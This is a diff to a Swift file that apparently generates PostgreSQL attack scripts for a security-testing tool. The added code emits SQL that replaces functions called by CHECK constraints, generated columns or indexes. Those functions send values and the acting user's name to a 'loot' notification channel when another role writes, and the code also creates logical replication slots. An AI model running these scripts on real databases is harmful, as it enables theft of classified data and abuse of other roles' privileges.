@@ -12,7 +12,8 @@ import Foundation
 /// so that the definer runs its code; pg_statistic; the server-file functions and COPY FROM
 /// PROGRAM; replacing a function a definer's SQL-standard body calls, then calling the definer;
 /// firing rewrite rules whose actions return rows; creating a trigger on a classified
-/// table and replacing a trigger function, then having another role write; logical decoding.
+/// table and replacing a trigger function or a function the table's CHECK constraint,
+/// generated column or index calls, then having another role write; logical decoding.
 struct AttackScripts {
     let scenario: AttackScenario
 
@@ -224,6 +225,13 @@ struct AttackScripts {
             }
             for function in scenario.replaceableTriggerFunctions {
                 lines.append("CREATE OR REPLACE FUNCTION \(function) RETURNS trigger LANGUAGE plpgsql AS $w$ BEGIN \(notify) RETURN NEW; END $w$;")
+            }
+            for function in scenario.replaceableExpressionFunctions {
+                let result = function.returns == "boolean" ? "true" : "md5($1)"
+                lines.append("""
+                    CREATE OR REPLACE FUNCTION \(function.signature) RETURNS \(function.returns) LANGUAGE plpgsql IMMUTABLE AS $w$ \
+                    BEGIN PERFORM pg_catalog.pg_notify('loot', 'expr ' || current_user || ' ' || $1); RETURN \(result); END $w$;
+                    """)
             }
             lines.append("SELECT 'slot', pg_catalog.pg_create_logical_replication_slot('loot_' || pg_catalog.pg_backend_pid() || '_\(i)', 'test_decoding', true);")
         }
